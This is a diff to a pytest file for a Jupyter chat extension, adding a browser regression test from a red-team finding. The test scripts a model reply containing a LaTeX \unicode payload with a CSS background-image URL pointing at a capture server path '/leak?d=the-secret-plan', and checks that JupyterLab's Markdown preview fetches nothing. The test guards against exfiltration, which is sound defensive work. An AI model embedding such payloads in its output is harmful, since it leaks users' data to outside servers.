@@ -20,8 +20,10 @@ import json
 from pathlib import Path
 
 import pytest
+from browser.lab import CHROMIUM, CHROMIUM_ARGS, Lab
 from capture import HttpCapture
-from test_browser import notebook_page, sync_playwright  # noqa: F401 (the fixture)
+from conftest import cell, scripted
+from test_browser import ENV, VIEWPORT, notebook_page, sync_playwright  # noqa: F401 (the fixture)
 
 from ygpt_magic.emulator import start_local_server
 
@@ -167,3 +169,39 @@ def test_tex_in_a_reply_fetches_nothing_covers_nothing_and_links_nowhere(sync_pl
         for written in [r"\unicode[x; background-image:url(", r"\unicode[x; position:fixed",
                         r"\href{/api/contents}{see the file}", "It costs $5 and $10."]:
             assert written in shown, f"not readable as written: {written}"
+
+
+def preview_markdown_files(folder: Path) -> None:
+    """JupyterLab's setting that opens a ``.md`` file in its Markdown Preview, not its editor."""
+    settings = folder / ".jupyter-home" / "lab-settings" / "@jupyterlab" / "docmanager-extension"
+    settings.mkdir(parents=True, exist_ok=True)
+    (settings / "plugin.jupyterlab-settings").write_text(
+        json.dumps({"defaultViewers": {"markdown": "Markdown Preview"}}))
+
+
+def test_an_exported_transcript_typesets_nothing_hidden_in_a_code_span(sync_playwright, shell, tmp_path):
+    """findings/redteam3.md 2: JupyterLab's removeMath reads ``\\\\(`` … ``\\\\)`` in the Markdown
+    source across a code span, so the ``\\unicode`` inside the span was typeset and fetched."""
+    with HttpCapture() as attacker:
+        fetch = rf"\unicode[x; background-image:url({attacker.url}/leak?d=the-secret-plan)]{{x41}}"
+        reply = "\n\n".join([f"The formula is \\\\( a `{fetch}` \\\\)",
+                              f"- in a list: \\\\[ `{fetch}` \\\\]", f"A `\\begin{{x}}` and `{fetch}` `\\end{{x}}`"])
+        with scripted(shell, tmp_path, "Explain the formula", reply):
+            cell(shell, "%%ygpt\nExplain the formula")
+            cell(shell, f"%ygpt export {tmp_path / 'chat.md'}")
+        preview_markdown_files(tmp_path)
+        with Lab(tmp_path, ENV) as lab, sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+            try:
+                page = browser.new_context(viewport=VIEWPORT).new_page()
+                page.goto(lab.url("chat.md"))
+                preview = page.locator(".jp-RenderedMarkdown").filter(has_text="The formula is")
+                preview.wait_for(timeout=60_000)
+                page.wait_for_timeout(3000)  # MathJax done, any fetch made
+                shown = "\n".join(preview.all_inner_texts())
+                typeset = preview.locator("mjx-container").count()
+            finally:
+                browser.close()
+    assert not attacker.seen, f"the preview called another server by itself: {attacker.seen}"
+    assert typeset == 0, "nothing in the transcript is math"
+    assert fetch in shown, "the code is readable as written"
